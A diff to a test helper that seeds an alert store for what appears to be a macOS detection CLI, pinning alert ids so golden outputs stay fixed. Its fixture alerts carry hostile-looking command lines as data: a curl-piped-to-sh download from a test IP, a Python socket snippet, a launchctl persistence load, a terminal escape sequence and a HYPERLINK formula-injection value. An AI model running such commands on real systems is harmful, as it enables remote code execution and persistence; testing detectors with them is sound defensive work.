@@ -35,14 +35,21 @@ export async function seedCliStore(file: string): Promise<void> {
   const store = AlertStore.open(file, { now: () => now });
   const emond = testRule();
   const high = testRule({ id: 'b7c1a1f0-0000-4000-8000-000000000001', name: 'Emond Rule With Command Action', severity: 'high', risk_score: 73, note: undefined, references: [] });
-  const ids = store.insertAlerts([
-    { document: makeAlert({ time: '2025-08-06T22:10:05.000Z', pid: 501, executable: '/bin/sh', args: ['sh', '-c', 'curl -fsSL http://203.0.113.7/a.sh | sh'] }), context: { note: emond.note as string, references: emond.references as string[], source: emond.source as string } },
+  const { setAlertId } = await import('../../src/alerts/alert-id.js');
+  const first = makeAlert({ time: '2025-08-06T22:10:05.000Z', pid: 501, executable: '/bin/sh', args: ['sh', '-c', 'curl -fsSL http://203.0.113.7/a.sh | sh'] });
+  first.process.parent.code_signature = { exists: true, signing_id: 'com.apple.emond' };
+  const seeded = [
+    { document: first, context: { note: emond.note as string, references: emond.references as string[], source: emond.source as string } },
     { document: makeAlert({ time: '2025-08-07T08:00:00.000Z', pid: 502, executable: '/usr/bin/python3', args: ['python3', '-c', 'import socket,os;s=socket.socket()'] }) },
     { document: makeAlert({ time: '2025-08-07T09:30:00.000Z', pid: 503, executable: '/bin/launchctl', args: ['launchctl', 'load', '-w', '/Library/LaunchDaemons/com.evil.plist'] }) },
     { document: makeAlert({ time: '2025-08-07T10:45:12.000Z', pid: 504, rule: high, executable: '/usr/bin/osascript', args: ['osascript', '-e', 'do shell script "id"'] }) },
     { document: makeAlert({ time: '2025-08-07T11:00:00.000Z', pid: 505, executable: '/bin/echo', args: ['echo', '\u001b[2Jgotcha', 'a,b "quoted"'] }), count: 4, lastSeen: Date.parse('2025-08-07T11:00:40.000Z') },
-    { document: makeAlert({ time: '2025-08-07T12:00:00.000Z', pid: 506, executable: '/usr/bin/base64', args: ['=HYPERLINK("http://x")', '-d', 'payload'], userName: 'root' }) },
-  ]);
+    // Over its key's max_signals: stored, its notification held back.
+    { document: makeAlert({ time: '2025-08-07T12:00:00.000Z', pid: 506, executable: '/usr/bin/base64', args: ['=HYPERLINK("http://x")', '-d', 'payload'], userName: 'root' }), notified: false },
+  ];
+  // Fixed ids, so the golden outputs do not change from run to run.
+  seeded.forEach((alert, i) => setAlertId(alert.document, `0000000${i + 1}-0000-4000-8000-00000000000${i + 1}`));
+  const ids = store.insertAlerts(seeded);
   store.setStatus(ids[1] as number, 'acknowledged', { by: 'alice', note: 'checking with IT' });
   store.setStatus(ids[2] as number, 'resolved', { by: 'bob', note: 'removed /etc/emond.d/rules/evil.plist' });
   store.commit({
